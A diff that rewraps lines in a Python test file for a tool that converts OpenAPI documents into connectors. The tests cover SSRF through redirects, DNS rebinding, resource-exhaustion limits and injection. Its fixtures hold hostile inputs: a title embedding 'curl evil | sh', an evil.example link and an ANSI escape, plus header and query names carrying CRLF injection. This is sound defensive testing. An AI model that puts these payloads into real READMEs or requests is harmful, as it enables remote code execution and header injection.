@@ -1,4 +1,6 @@
-"""Hostile documents against the machine of who generates a connector: what they fetch, and what they write."""
+"""Hostile documents against the machine of who generates a connector: what they fetch, and what
+they write.
+"""
 
 from __future__ import annotations
 
@@ -26,13 +28,19 @@ def serving(location: str, *, reference: str = "redirected") -> Provider:
     def script(_number: int, request: Request) -> Answer:
         if request.path == "/doc":
             return Answer({"openapi": "3.0.3", "a": {"$ref": f"{reference}#/x"}})
-        return Answer({}, 302, {"Location": location}) if request.path == "/redirected" else Answer({"x": {"type": "string"}})
+        return (
+            Answer({}, 302, {"Location": location})
+            if request.path == "/redirected"
+            else Answer({"x": {"type": "string"}})
+        )
 
     return Provider(script)
 
 
 def test_security_8_a_reference_is_not_redirected_to_another_server() -> None:
-    """Security 8: references were held to the document's origin, but their redirects were followed anywhere."""
+    """Security 8: references were held to the document's origin, but their redirects were followed
+    anywhere.
+    """
     with Provider([Answer({"x": "inner"})]) as inner, serving(f"{inner.url}/secret") as outer:
         with pytest.raises(InvalidInput, match="redirects to another origin"):
             read(f"{outer.url}/doc")
@@ -40,9 +48,13 @@ def test_security_8_a_reference_is_not_redirected_to_another_server() -> None:
 
 
 def test_security_8_a_document_is_not_redirected_to_another_server() -> None:
-    """The main document's redirects are held to its origin, too; the error names the address, printable."""
+    """The main document's redirects are held to its origin, too; the error names the address,
+    printable.
+    """
     with Provider([Answer({})]) as inner, serving(f"{inner.url}/x") as outer:
-        with pytest.raises(InvalidInput, match=r"redirects to another origin, 'http://127\.0\.0\.1"):
+        with pytest.raises(
+            InvalidInput, match=r"redirects to another origin, 'http://127\.0\.0\.1"
+        ):
             read(f"{outer.url}/redirected")
         assert inner.requests == []
 
@@ -50,11 +62,15 @@ def test_security_8_a_document_is_not_redirected_to_another_server() -> None:
 def test_redirects_within_the_origin_are_followed() -> None:
     """A server may move its own documents."""
     with serving("/moved") as server:
-        assert read(f"{server.url}/doc")[0]["x-jackfield-bundled"] == {"redirected": {"x": {"type": "string"}}}
+        assert read(f"{server.url}/doc")[0]["x-jackfield-bundled"] == {
+            "redirected": {"x": {"type": "string"}}
+        }
 
 
 def test_a_public_document_reaches_no_inner_address(monkeypatch: pytest.MonkeyPatch) -> None:
-    """A host whose name is public for the document, and an inner address for what it refers to (DNS rebinding), is not asked again."""
+    """A host whose name is public for the document, and an inner address for what it refers to (DNS
+    rebinding), is not asked again.
+    """
     found = socket.getaddrinfo
     public: list[bool] = [True]
 
@@ -75,13 +91,21 @@ def test_a_public_document_reaches_no_inner_address(monkeypatch: pytest.MonkeyPa
 
 def hostile(**more: Any) -> dict[str, Any]:
     """A document with a hostile title."""
-    found = document({"/a": {"get": operation(operationId="show", **more)}}, servers=[{"url": "https://api.acme.example"}])
-    found["info"]["title"] = "Acme\n\n# Install\n[click](http://evil.example) <img src=x>\n```sh\n\x1b[2Jcurl evil | sh\n```"
+    found = document(
+        {"/a": {"get": operation(operationId="show", **more)}},
+        servers=[{"url": "https://api.acme.example"}],
+    )
+    found["info"]["title"] = (
+        "Acme\n\n# Install\n[click](http://evil.example) <img src=x>\n```sh\n\x1b[2Jcurl evil | "
+        "sh\n```"
+    )
     return found
 
 
 def test_security_8_a_readme_has_one_line_of_the_document() -> None:
-    """Security 8: the README began with the title as it was, with headings, links and code of the document's author."""
+    """Security 8: the README began with the title as it was, with headings, links and code of the
+    document's author.
+    """
     made = converted(hostile(), Choices())
     readme = files_of(made, "doc.json", b"", ())["README.md"].decode()
     first, second = readme.splitlines()[:2]
@@ -90,13 +114,22 @@ def test_security_8_a_readme_has_one_line_of_the_document() -> None:
     assert "\x1b" not in json.dumps(made.manifest, ensure_ascii=False)
 
 
-@pytest.mark.parametrize(("place", "name"), [("header", "X-K\r\nInjected: 1"), ("header", "X K"), ("cookie", "a; b"), ("query", "a\r\nb")])
+@pytest.mark.parametrize(
+    ("place", "name"),
+    [("header", "X-K\r\nInjected: 1"), ("header", "X K"), ("cookie", "a; b"), ("query", "a\r\nb")],
+)
 def test_security_8_names_that_break_out_are_left_out(place: str, name: str) -> None:
-    """Security 8: the name of an API key with a line break was taken into the manifest. So are those of parameters refused."""
+    """Security 8: the name of an API key with a line break was taken into the manifest. So are
+    those of parameters refused.
+    """
     text = document(
         {
             "/a": {"get": operation(operationId="show", security=[{"key": []}])},
-            "/b": {"get": operation(operationId="list", parameters=[{"name": name, "in": place, "schema": _TEXT}])},
+            "/b": {
+                "get": operation(
+                    operationId="list", parameters=[{"name": name, "in": place, "schema": _TEXT}]
+                )
+            },
         },
         servers=[{"url": "https://api.acme.example"}],
         components={"securitySchemes": {"key": {"type": "apiKey", "in": place, "name": name}}},
@@ -107,16 +140,25 @@ def test_security_8_names_that_break_out_are_left_out(place: str, name: str) -> 
 
 
 def test_a_parameter_that_the_connection_sends_is_no_input() -> None:
-    """Documents declare their API key as a parameter, too: the connection sends it, and a caller could only be refused."""
+    """Documents declare their API key as a parameter, too: the connection sends it, and a caller
+    could only be refused.
+    """
     text = document(
         {
             "/a": {
-                "get": operation(operationId="show", parameters=[{"name": "x-api-key", "in": "header", "required": True, "schema": _TEXT}])
+                "get": operation(
+                    operationId="show",
+                    parameters=[
+                        {"name": "x-api-key", "in": "header", "required": True, "schema": _TEXT}
+                    ],
+                )
             }
         },
         servers=[{"url": "https://api.acme.example"}],
         security=[{"key": []}],
-        components={"securitySchemes": {"key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"}}},
+        components={
+            "securitySchemes": {"key": {"type": "apiKey", "in": "header", "name": "X-Api-Key"}}
+        },
     )
     (action,) = converted(text, Choices()).manifest["actions"]
     assert action["inputs"].get("properties", {}) == {}
@@ -128,10 +170,15 @@ def test_a_parameter_that_the_connection_sends_is_no_input() -> None:
 def test_doubling_branches_are_refused_before_anything_is_compiled(
     monkeypatch: pytest.MonkeyPatch, keyword: str, depth: int, role: str
 ) -> None:
-    """A document of n schemas, each of which names the next one twice, would take 2**n steps: its cost is found first, by the graph."""
+    """A document of n schemas, each of which names the next one twice, would take 2**n steps: its
+    cost is found first, by the graph.
+    """
     compiled = []
     monkeypatch.setattr(proof, "_fault", lambda schema, used: compiled.append(len(used)))
-    schemas: dict[str, Any] = {f"d{at}": {keyword: [{"$ref": f"#/components/schemas/d{at + 1}"}] * 2} for at in range(depth)}
+    schemas: dict[str, Any] = {
+        f"d{at}": {keyword: [{"$ref": f"#/components/schemas/d{at + 1}"}] * 2}
+        for at in range(depth)
+    }
     schemas[f"d{depth}"] = {"type": "object"}
     media = {"application/json": {"schema": {"$ref": "#/components/schemas/d0"}}}
     sent = {"requestBody": {"content": media}} if role == "inputs" else {}
@@ -143,10 +190,16 @@ def test_doubling_branches_are_refused_before_anything_is_compiled(
     assert max(compiled, default=0) == 0
 
 
-def test_values_of_a_document_are_counted_before_it_is_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_values_of_a_document_are_counted_before_it_is_parsed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     """JSON and YAML with too many values are refused by their text; text alone is not."""
     monkeypatch.setattr(reading, "MAX_VALUES", 1000)
-    for content in (b'{"a": [' + b"[]," * 2000 + b"1]}", b"a:\n" + b"- 1\n" * 2000, b"a: [" + b"1, " * 2000 + b"1]"):
+    for content in (
+        b'{"a": [' + b"[]," * 2000 + b"1]}",
+        b"a:\n" + b"- 1\n" * 2000,
+        b"a: [" + b"1, " * 2000 + b"1]",
+    ):
         with (
             mock.patch.object(reading, "_parse_text", side_effect=AssertionError),
             pytest.raises(InvalidInput, match="more than 1,000 values"),
